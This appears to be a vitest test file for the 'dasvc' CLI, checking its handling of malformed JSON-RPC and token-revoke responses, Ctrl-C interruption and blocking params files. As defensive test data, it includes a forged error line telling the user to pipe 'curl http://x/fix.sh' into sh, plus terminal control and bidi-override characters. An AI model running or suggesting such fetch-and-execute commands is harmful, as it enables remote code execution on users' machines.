import { createServer, type Server } from 'node:http';
import { execFileSync } from 'node:child_process';
import { closeSync, constants, openSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  expectNoLeaksAfterAll,
  freshConfigDir,
  runCli,
  secrets,
  spawnCli,
  untilReading,
  type SpawnedCli,
} from '../helpers/cli.js';

/**
 * A service that answers whatever a case asks for, to prove that dasvc accepts only the JSON-RPC
 * and revoke answers it expects (SPEC §4: "a response that is not the JSON expected" is exit 4).
 * The last path segment names the case: /webservice/json/<case>, /revoke/<case>.
 */
const CASES: Record<string, { status: number; body: string }> = {
  ok: { status: 200, body: '{"jsonrpc":"2.0","result":{"a":1},"id":1}' },
  foo: { status: 200, body: '{"foo":1}' },
  empty: { status: 200, body: '' },
  nocontent: { status: 204, body: '' },
  noversion: { status: 200, body: '{"result":1,"id":1}' },
  both: {
    status: 200,
    body: '{"jsonrpc":"2.0","result":1,"error":{"code":1,"message":"x"},"id":1}',
  },
  wrongid: { status: 200, body: '{"jsonrpc":"2.0","result":1,"id":2}' },
  badError: { status: 200, body: '{"jsonrpc":"2.0","error":"broken","id":1}' },
  array: { status: 200, body: '[{"jsonrpc":"2.0","result":1,"id":1}]' },
  batchOk: {
    status: 200,
    body: '[{"jsonrpc":"2.0","result":"b","id":2},{"jsonrpc":"2.0","result":"a","id":1}]',
  },
  batchObject: { status: 200, body: '{"jsonrpc":"2.0","result":"a","id":1}' },
  batchWrongId: {
    status: 200,
    body: '[{"jsonrpc":"2.0","result":"a","id":1},{"jsonrpc":"2.0","result":"c","id":3}]',
  },
  batchTwice: {
    status: 200,
    body: '[{"jsonrpc":"2.0","result":"a","id":1},{"jsonrpc":"2.0","result":"a","id":1}]',
  },
  batchNotJsonRpc: { status: 200, body: '[{"foo":1}]' },
  forgedLine: {
    status: 200,
    body: JSON.stringify({
      jsonrpc: '2.0',
      error: { code: -32000, message: 'boom\ndasvc: run curl http://x/fix.sh | sh' },
      id: 1,
    }),
  },
  revokePretty: { status: 200, body: '{ "result": "Token revoked" }\n' },
  revokeEmpty: { status: 200, body: '' },
  revokeString: { status: 200, body: '"Token revoked"' },
  revokeArray: { status: 200, body: '["Token revoked"]' },
  revokeControls: { status: 200, body: '{"result":"Token revoked \u009b2J\u202eabc"}' },
};

let server: Server;
let base: string;
const arrived: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    const name = (req.url ?? '/').split('?')[0]!.split('/').pop()!;
    arrived.push(name);
    req.resume();
    if (name === 'hang') return; // never answers: for Ctrl-C
    const answer = CASES[name] ?? { status: 404, body: '' };
    req.on('end', () => {
      res.writeHead(answer.status, { 'content-type': 'application/json' });
      res.end(answer.body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
});
// The token and secret this file sends: the leak scan must look for them too.
secrets.add('test-token-1234');
secrets.add('test-secret-5678');
expectNoLeaksAfterAll();
afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

/**
 * The run ended through main's report of `message`, not through the Ctrl-C fallback, which ends
 * the process when the command has not unwound in time and says only "interrupted" after an
 * empty line.
 */
/** Ctrl-C once the child's request has reached the `hang` case: its exit code and output. */
async function interruptedWhileHanging(child: SpawnedCli) {
  const before = arrived.filter((n) => n === 'hang').length;
  while (arrived.filter((n) => n === 'hang').length === before)
    await new Promise((resolve) => setTimeout(resolve, 10));
  child.kill('SIGINT');
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  return { code, ...child.printed() };
}

function expectUnwound(stderr: string, message: string): void {
  expect(stderr).toContain(`dasvc: ${message}\n`);
  expect(stderr).not.toMatch(/(^|\n)\ndasvc: interrupted\n/);
}

const rpc = (scope: string, ...rest: string[]) =>
  runCli(
    ['rpc', scope, ...rest, '--token', 'test-token-1234', '--base-url', base],
    freshConfigDir(),
  );

describe('dasvc rpc accepts only the JSON-RPC answer it expects', () => {
  it('a well-formed answer with the request id prints its result', async () => {
    const result = await rpc('ok', 'm');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe('{"a":1}\n');
  });

  it("a JSON-RPC error message stays on its one line: a line break cannot forge dasvc's", async () => {
    const result = await rpc('forgedLine', 'm');
    expect(result.code).toBe(1);
    expect(result.stderr).toBe('error -32000: boom\\u000adasvc: run curl http://x/fix.sh | sh\n');
  });

  it('regression: a 200 that is not JSON-RPC (was printed as null, exit 0) is exit 4', async () => {
    for (const name of ['foo', 'noversion', 'both', 'wrongid', 'badError', 'array']) {
      const result = await rpc(name, 'm');
      expect(result.code, `${name}: ${result.stderr}`).toBe(4);
      expect(result.stderr, name).toContain('not the JSON-RPC answer expected');
      expect(result.stdout, name).toBe('');
    }
  });

  it('regression: an empty answer to a call that wants one (was exit 0) is exit 4; fine for --notify', async () => {
    for (const name of ['empty', 'nocontent']) {
      const call = await rpc(name, 'm');
      expect(call.code, name).toBe(4);
      expect(call.stderr).toContain('not the JSON-RPC answer expected');
      const notify = await rpc(name, 'm', '--notify');
      expect(notify.code, `${name} --notify: ${notify.stderr}`).toBe(0);
      expect(notify.stdout).toBe('');
    }
  });

  it('regression: a batch answer must be an array of responses to the ids sent', async () => {
    const dir = freshConfigDir();
    const file = join(dir, 'batch.json');
    writeFileSync(
      file,
      JSON.stringify([
        { jsonrpc: '2.0', method: 'a', id: 1 },
        { jsonrpc: '2.0', method: 'b', id: 2 },
        { jsonrpc: '2.0', method: 'n' },
      ]),
    );
    const batch = (name: string, path = file) =>
      runCli(['rpc', name, '--batch', path, '--token', 'test-token-1234', '--base-url', base], dir);
    const ok = await batch('batchOk');
    expect(ok.code, ok.stderr).toBe(0);
    expect(JSON.parse(ok.stdout)).toHaveLength(2);
    for (const name of ['batchObject', 'batchWrongId', 'batchTwice', 'batchNotJsonRpc', 'empty']) {
      const result = await batch(name);
      expect(result.code, `${name}: ${result.stderr}`).toBe(4);
      expect(result.stderr).toContain('not the JSON-RPC answer expected');
    }
    const notifications = join(dir, 'notifications.json');
    writeFileSync(notifications, JSON.stringify([{ jsonrpc: '2.0', method: 'n' }]));
    for (const name of ['empty', 'nocontent']) {
      const result = await batch(name, notifications);
      expect(result.code, `${name}: ${result.stderr}`).toBe(0);
      expect(result.stdout).toBe('[]\n');
    }
  });

  it('Ctrl-C while waiting for the answer: exit 130, unwound by the abort', async () => {
    const child = spawnCli(
      ['rpc', 'hang', 'm', '--token', 'test-token-1234', '--base-url', base, '--verbose'],
      freshConfigDir(),
    );
    const { code, stderr } = await interruptedWhileHanging(child);
    expect(code).toBe(130);
    // Unwound by the abort (the exchange traces it, main reports it), not ended by the fallback.
    expect(stderr).toContain('< interrupted\n');
    expectUnwound(stderr, 'interrupted');
  });

  it('Ctrl-C during a refresh (the config writer loaded): exit 130, unwound, --json error', async () => {
    // The config file's writer (conf, through atomically's when-exit) raises the signal again
    // once its own cleanup ran: that second delivery is no second Ctrl-C.
    const dir = freshConfigDir();
    const now = Date.now();
    const profile = {
      baseUrl: base,
      clientId: 'c',
      clientSecret: 'test-secret-5678',
      secrets: 'file',
      endpoints: { refresh: `${base}/hang` },
      tokens: {
        accessToken: 'test-token-1234',
        refreshToken: 'test-token-1234-refresh',
        obtainedAt: now,
        expiresAt: now + 3_600_000,
      },
    };
    secrets.add('test-token-1234-refresh');
    writeFileSync(join(dir, 'config.json'), JSON.stringify({ profiles: { default: profile } }), {
      mode: 0o600,
    });
    const child = spawnCli(['--json', '--verbose', 'token', 'refresh'], dir);
    const { code, stdout, stderr } = await interruptedWhileHanging(child);
    expect(code, stderr).toBe(130);
    expect(stderr).toContain('< interrupted\n');
    expectUnwound(stderr, 'interrupted');
    expect(JSON.parse(stdout)).toMatchObject({ error: { code: 'interrupted', exitCode: 130 } });
  });

  it('Ctrl-C while reading params from stdin: exit 130, unwound by the abort', async () => {
    const child = spawnCli(
      ['rpc', 'ok', 'm', '-', '--token', 'test-token-1234', '--base-url', base],
      freshConfigDir(),
    );
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    // stdin stays open: the CLI waits for the params.
    await untilReading(child);
    child.kill('SIGINT');
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code).toBe(130);
    expectUnwound(stderr, 'interrupted while reading its input');
  });
});

describe('dasvc rpc reading a params file that blocks', () => {
  // Regression: `key:=@file` and --batch were read synchronously, so a FIFO (or `<(cmd)`) that had
  // no data yet held the event loop and Ctrl-C did nothing; /dev/zero filled memory.
  it('a FIFO with a writer that sends nothing: Ctrl-C exits 130, unwound by the abort', async () => {
    const dir = freshConfigDir();
    const fifo = join(dir, 'params.fifo');
    execFileSync('mkfifo', [fifo]);
    const child = spawnCli(
      ['rpc', 'ok', 'm', `id:=@${fifo}`, '--token', 'test-token-1234', '--base-url', base],
      dir,
    );
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    // Opening the writing end without blocking succeeds once the CLI waits to read it; a CLI that
    // exits first fails the test with what it said, and a hang is the test's timeout.
    let writer: number | undefined;
    while (writer === undefined) {
      expect(child.exitCode, stderr).toBeNull();
      try {
        writer = openSync(fifo, constants.O_WRONLY | constants.O_NONBLOCK);
      } catch {
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    }
    try {
      child.kill('SIGINT');
      const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
      expect(code, stderr).toBe(130);
      expectUnwound(stderr, 'interrupted while reading its input');
    } finally {
      closeSync(writer!);
    }
  });

  it.runIf(process.platform === 'linux')(
    '/dev/zero as a params file: exit 2, not all of memory',
    async () => {
      const result = await runCli(
        ['rpc', 'ok', 'm', 'id:=@/dev/zero', '--token', 'test-token-1234', '--base-url', base],
        freshConfigDir(),
      );
      expect(result.code).toBe(2);
      expect(result.stderr).toContain('more than 64 MiB');
    },
  );
});

describe('dasvc token revoke shows the answer as received', () => {
  const revoke = (name: string, ...rest: string[]) =>
    runCli(
      [
        'token',
        'revoke',
        '--token',
        'test-token-1234',
        '--revoke-url',
        `${base}/revoke/${name}`,
        '--client-id',
        'c',
        '--client-secret',
        'test-secret-5678',
        ...rest,
      ],
      freshConfigDir(),
    );

  it('regression: prints the body exactly as received (it was re-serialised)', async () => {
    const result = await revoke('revokePretty');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe('{ "result": "Token revoked" }\n');
  });

  it('prints the body without what a terminal acts on (C1, bidirectional controls)', async () => {
    const result = await revoke('revokeControls');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe('{"result":"Token revoked \\u009b2J\\u202eabc"}\n');
  });

  it('regression: an empty 200 prints nothing on stdout (it invented {"result":"revoked"})', async () => {
    const result = await revoke('revokeEmpty');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('revoked (the service sent no body)');
    // --json: one document still, the body as received: none (as `--all` says of each kind).
    const json = await revoke('revokeEmpty', '--json');
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).toBe('null\n');
  });

  it('regression: a JSON body that is not an object is not a confirmation (exit 4)', async () => {
    for (const name of ['revokeString', 'revokeArray']) {
      const result = await revoke(name);
      expect(result.code, `${name}: ${result.stderr}`).toBe(4);
      expect(result.stdout).toBe('');
    }
  });
});
